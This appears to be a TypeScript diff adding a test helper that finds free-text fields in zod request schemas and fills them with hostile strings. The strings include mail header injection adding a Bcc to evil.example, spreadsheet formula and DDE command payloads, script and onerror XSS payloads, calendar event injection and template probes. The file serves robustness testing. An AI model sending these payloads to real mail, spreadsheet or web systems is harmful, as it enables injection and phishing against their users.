@@ -1,0 +1,71 @@
+import { z } from 'zod'
+
+interface JsonSchema {
+  type?: string
+  enum?: unknown[]
+  const?: unknown
+  format?: string
+  maxLength?: number
+  anyOf?: JsonSchema[]
+  oneOf?: JsonSchema[]
+  allOf?: JsonSchema[]
+  properties?: Record<string, JsonSchema>
+  items?: JsonSchema
+}
+
+/** A place in a body where text goes: `items.0.special_instructions`. */
+export interface TextField {
+  path: (string | number)[]
+  max: number
+}
+
+/** Every field of a body that takes free text: no ids, no moments, no closed lists. */
+export function textFields(schema: z.ZodType | undefined): TextField[] {
+  if (!schema) return []
+  return find(z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as JsonSchema, [])
+}
+
+function find(schema: JsonSchema, path: TextField['path']): TextField[] {
+  const choices = schema.anyOf ?? schema.oneOf ?? schema.allOf
+  if (choices) return choices.flatMap((choice) => find(choice, path))
+  if (schema.properties)
+    return Object.entries(schema.properties).flatMap(([name, inner]) => find(inner, [...path, name]))
+  if (schema.items) return find(schema.items, [...path, 0])
+  const free = schema.type === 'string' && !schema.enum && schema.const === undefined
+  return free && !['uuid', 'date-time'].includes(schema.format ?? '') ? [{ path, max: schema.maxLength ?? 100 }] : []
+}
+
+/** The body with other text at that place; objects and lists on the way there are made. */
+export function withText<T>(body: T, path: TextField['path'], text: string): T {
+  const [step, ...rest] = path
+  if (step === undefined) return text as T
+  const copy = (Array.isArray(body) ? [...body] : { ...body }) as Record<string | number, unknown>
+  copy[step] = withText(copy[step] ?? (typeof rest[0] === 'number' ? [] : {}), rest, text)
+  return copy as T
+}
+
+/** What breaks mails, calendars, spreadsheets, pages and databases that believe what they are given. */
+export const hostileTexts = (max: number): Record<string, string> => ({
+  'a line break': 'Ann\nB',
+  'a forged header': 'Ann\r\nBcc: all@evil.example\r\n\r\n<b>Hello</b>',
+  'a folded header': 'Ann\r\n Subject: folded',
+  'an encoded header': '=?utf-8?q?Ann=0D=0ABcc:_all=40evil.example?=',
+  'line separators': 'a\u2028b\u2029c\u0085d\ve\ff',
+  'every control': `a${Array.from({ length: 31 }, (_, code) => String.fromCharCode(code + 1)).join('')}\u007f\u0080\u009fz`,
+  'a null': 'a\0b',
+  'nothing but controls': '\u0007\u202e\n',
+  'turned text': '\u202Egpj.exe\u202C \u2066in\u2069 \u200fRLM',
+  'half an emoji': 'half \ud83e and \udd56 half',
+  'emoji to the limit': '🥖'.repeat(max),
+  'an emoji across the limit': `${'x'.repeat(max - 1)}🥖`,
+  'an emoji beyond the limit': '🥖'.repeat(max + 1),
+  'a family': '👩‍👩‍👧‍👦'.repeat(Math.max(1, Math.floor(max / 8))),
+  'letters on letters': `Z${'\u0351'.repeat(Math.max(1, max - 1))}`,
+  'ten thousand': 'x'.repeat(10_000),
+  'a formula': '=HYPERLINK("http://evil.example","Refund")',
+  'a command': "@SUM(1+1)*cmd|' /C calc'!A0",
+  'a script': '</script><script>alert(1)</script>',
+  'an event handler': '"><img src=x onerror=alert(1)>',
+  'a calendar': 'x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:evil;,\\n',
+  'a template': '{{7*7}}<%= 7*7 %>%s%n',
+})
